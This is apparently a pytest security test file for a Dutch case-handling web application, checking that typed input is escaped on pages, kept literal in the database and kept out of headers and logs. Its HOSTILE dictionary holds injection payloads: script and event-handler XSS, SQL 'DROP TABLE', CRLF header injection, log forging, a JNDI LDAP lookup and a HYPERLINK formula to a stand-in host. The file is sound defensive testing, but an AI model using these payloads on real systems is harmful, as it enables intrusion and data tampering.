"""What people type is stored as it was typed, and shown as text: it is no markup, no query, no header, no log line."""

from __future__ import annotations

import ast
import json
import logging
import re
import sqlite3
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any

import pytest

from shared.access import Role
from shared.api import PREFIX
from tests.api.calling import Said
from tests.api.conftest import Site, make_site, nights, site
from tests.house.repository import ROOT, name_of, python_files, tree_of
from tests.pages.forms import send

__all__ = ["make_site", "nights", "site"]

HOSTILE = {
    "html": "<script>kanarie()</script><img src=x onerror=kanarie()><b>vet</b>",
    "attribute": "\" onfocus=kanarie() autofocus x=' onmouseover=kanarie() y=",
    "end of a field": "</textarea></title></dd></td><form action=https://kanarie.example><input name=kanarie>",
    "template": "{{ 7*7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "sql": "x'; DROP TABLE resultaten; -- \" OR 1=1 /* %s :naam ? \\",
    "header": "regel\r\nSet-Cookie: kanarie=1\r\n\r\n<html>",
    "log": "regel\n2026-11-22 ERROR kanarie: alles gewist \u2028 \u202e",
    "lookup": "${jndi:ldap://kanarie.example/a} %(kanarie)s {kanarie.__class__}",
    "formula": '=HYPERLINK("https://kanarie.example")',
}


@dataclass
class Shown(HTMLParser):
    """A page as a browser reads it: its elements, their attributes, and its text."""

    html: str
    tags: set[str] = field(default_factory=set)
    handlers: list[str] = field(default_factory=list)
    links: list[str] = field(default_factory=list)
    words: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.feed(self.html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.handlers += [name for name, _ in attrs if name.startswith("on") or name in ("autofocus", "srcdoc")]
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction")]
        self.words += [value or "" for name, value in attrs if name == "value"]

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    @property
    def text(self) -> str:
        return squeezed(" ".join(self.words))


def squeezed(text: str) -> str:
    return re.sub(r"\s+", " ", text)


@dataclass
class Planting:
    """Somebody who types one text in every field where a text can be typed."""

    site: Site
    hostile: str
    pages: dict[str, str] = field(default_factory=dict)  # by place, the page on which its text is shown

    def __post_init__(self) -> None:
        self.case_worker = self.site.as_(Role.BEHANDELAAR, who="een")
        self.watcher, self.second = (self.site.as_(Role.TOEZICHTHOUDER, who=who) for who in ("twee", "drie"))
        self.operator = self.site.as_(Role.PROCESBEHEERDER, who="vier")

    def at(self, place: str, page: str = "") -> str:
        """What is typed at a place: the attack, and where it was typed."""
        if page:
            self.pages[place] = page
        return f"{self.hostile} geplant bij {place}"

    def of_an_application(self) -> None:
        number = self.site.numbers(1)[0]
        asked = {"nummer": number, "reden": self.at("zoeken")}
        (found, *_) = done(self.case_worker.post(f"{PREFIX}/aanvragen/_zoek", asked), 200)["voorspellingen"]
        self.prediction = str(found["id"])
        sent = {"route": "consult", "gevolgd": False, "reden": "anders", "toelichting": self.at("beoordeling", "kaart")}
        done(self.case_worker.post(f"{PREFIX}/voorspellingen/{self.prediction}/beoordelingen", sent), 201)
        sent = {"voorspelling": self.prediction, "reden": self.at("bezwaar")}
        objection = f"/bezwaren/{done(self.case_worker.post(f'{PREFIX}/bezwaren', sent), 201)['id']}"
        sent = {"uitkomst": "ingetrokken", "reden": self.at("afhandeling")}
        done(self.watcher.post(f"{PREFIX}{objection}/afhandeling", sent), 200)
        self.objection = objection  # its page tells no words of anybody

    def of_a_person(self) -> None:
        sent = {"soort": "inzage", "persoonsnummer": "900100001", "reden": self.at("verzoek")}
        request = f"/verzoeken/{done(self.watcher.post(f'{PREFIX}/verzoeken', sent), 201)['id']}"
        self.pages["verzoek"] = request
        granted = {"toegewezen": True, "reden": self.at("beslissing", request)}
        done(self.second.post(f"{PREFIX}{request}/beslissing", granted), 200)
        done(self.watcher.post(f"{PREFIX}{request}/intrekking", {"reden": self.at("intrekking", request)}), 200)

    def of_operation(self) -> None:
        deliveries = done(self.operator.get(f"{PREFIX}/leveringen"), 200)["leveringen"]
        held = next(one for one in deliveries if one["verwerkingen"][-1]["toestand"] == "aangehouden")
        done(self.operator.post(f"{PREFIX}/leveringen/{held['id']}/vrijgave", {"reden": self.at("vrijgave")}), 200)
        sent = {"levering": deliveries[-1]["id"], "reden": self.at("herverwerking")}
        done(self.operator.post(f"{PREFIX}/verwerkingen", sent), 202)
        stop = f"{PREFIX}/modellen/levensonderhoud/stop"
        sent = {"gestopt": True, "reden": self.at("stopknop", "/modellen/levensonderhoud")}
        done(self.watcher.put(stop, sent), 200)

    def shown(self, page: str) -> Said:
        """A page as whoever may see it gets it; the card and the audit log ask for a reason first."""
        if page == "kaart":
            return send(self.case_worker, f"/voorspellingen/{self.prediction}", "/aanvragen", reden="vraag")
        if page == "audit":
            return send(self.watcher, "/audit", "/audit", reden=self.at("auditlog"))
        return self.watcher.get(page)


def done(answer: Said, status: int) -> Any:
    assert answer.status == status, answer.body
    return answer.document


@pytest.mark.parametrize("kind", HOSTILE)
def test_what_was_typed_anywhere_is_shown_as_text_and_stays_in_the_database(
    site: Site, kind: str, caplog: pytest.LogCaptureFixture, capfd: pytest.CaptureFixture[str]
) -> None:
    planting = Planting(site, HOSTILE[kind])
    with caplog.at_level(logging.DEBUG):
        planting.of_an_application()
        planting.of_a_person()
        planting.of_operation()
        answers = {
            page: planting.shown(page)
            for page in {*planting.pages.values(), planting.objection, "/bezwaren", "audit", "/modellen", "/verzoeken"}
        }
    for page, answer in answers.items():
        assert answer.status == 200, (page, answer.status)
        found = Shown(answer.body.decode())
        assert not {"script", "img", "iframe", "object", "b"} & found.tags, page
        assert not found.handlers and not [link for link in found.links if "kanarie" in link], page
        assert "kanarie" not in str(answer.headers), page
    for place, page in planting.pages.items():
        assert squeezed(planting.at(place)) in Shown(answers[page].body.decode()).text, f"{place} is not on {page}"
    told = caplog.text + "".join(capfd.readouterr())
    assert "geplant" not in told and "kanarie" not in told
    telling = [path for path in site.storage.rglob("*") if path.is_file() and b"geplant bij" in path.read_bytes()]
    assert {path.name.partition("-")[0] for path in telling} <= {"administratie.sqlite", "actueel.json"}
    pointer = json.loads((site.storage / "uitvoer" / "levensonderhoud" / "actueel.json").read_bytes())
    assert pointer["model"]["reden"] == planting.at("stopknop"), (
        "why a model is stopped is told to whoever reads results"
    )


def test_a_text_is_kept_to_the_letter_and_no_table_is_gone(site: Site) -> None:
    text = HOSTILE["sql"]
    planting = Planting(site, text)
    planting.of_an_application()
    planting.of_a_person()
    (database,) = site.storage.glob("*.sqlite")
    with sqlite3.connect(database) as connection:
        reasons = {reason for (reason,) in connection.execute("SELECT reden FROM bezwaren")}
        assert connection.execute("SELECT count(*) FROM resultaten").fetchone()[0] > 50
    connection.close()
    assert {planting.at("bezwaar"), planting.at("afhandeling")} <= reasons


@pytest.mark.parametrize("number", [text for text in HOSTILE.values() if text.isprintable()])
def test_a_number_that_is_an_attack_finds_nothing_and_nobody(site: Site, number: str) -> None:
    client = site.as_(Role.BEHANDELAAR)
    asked = client.post(f"{PREFIX}/aanvragen/_zoek", {"nummer": number, "reden": "vraag"})
    assert asked.status == 200 and asked.document["voorspellingen"] == []
    page = send(client, "/aanvragen", "/aanvragen", soort="persoon", nummer=number, reden="vraag")
    assert page.status == 404 and not {"script", "img", "b"} & Shown(page.body.decode()).tags


def test_a_reason_in_a_header_cannot_hold_a_line_end(site: Site) -> None:
    client = site.as_(Role.BEHANDELAAR)
    url = f"{PREFIX}/voorspellingen/{'0' * 32}-0"
    for reason in ("regel\r\nSet-Cookie: kanarie=1", "\x00kanarie", "kanarie\u00e9"):
        answer = client.get(url, Inzage_Reden=reason)
        assert answer.status == 400 and b"kanarie" not in answer.body


def test_no_template_switches_escaping_off_and_no_page_is_made_of_loose_text() -> None:
    templates = sorted((ROOT / "shared" / "pages" / "templates").glob("*.html"))
    assert len(templates) > 20
    unsafe = re.compile(r"\|\s*safe\b|autoescape|<script|\son[a-z]+=|javascript:|\|\s*attr\b")
    assert not {path.name for path in templates if unsafe.search(path.read_text(encoding="utf-8"))}
    made = {"Markup", "from_string", "HTMLResponse"}
    named = {
        name_of(path): found
        for path in python_files("shared/api", "shared/pages")
        if (found := {node.id for node in ast.walk(tree_of(path)) if isinstance(node, ast.Name)} & made)
    }
    assert named.keys() <= {"shared/pages/route.py", "shared/pages/tables.py"}, named


def test_statements_that_are_text_stand_in_few_places_and_hold_names_of_ours_alone() -> None:
    """All others are built by the library, with what somebody sent as a parameter. A new place is looked at first."""
    calls = {
        name_of(path)
        for path in python_files("shared")
        if "migrations" not in path.parts
        for node in ast.walk(tree_of(path))
        if isinstance(node, ast.Call) and _runs_text(node)
    }
    home = "shared/adapters/sql"
    assert calls == {f"{home}/{name}.py" for name in ("bulk", "engine", "purge", "rights")}


def _runs_text(call: ast.Call) -> bool:
    if not isinstance(call.func, ast.Attribute):
        return False
    of_library = isinstance(call.func.value, ast.Name) and call.func.value.id in ("sa", "sqlalchemy")
    return call.func.attr in ("exec_driver_sql", "executescript") or (call.func.attr == "text" and of_library)
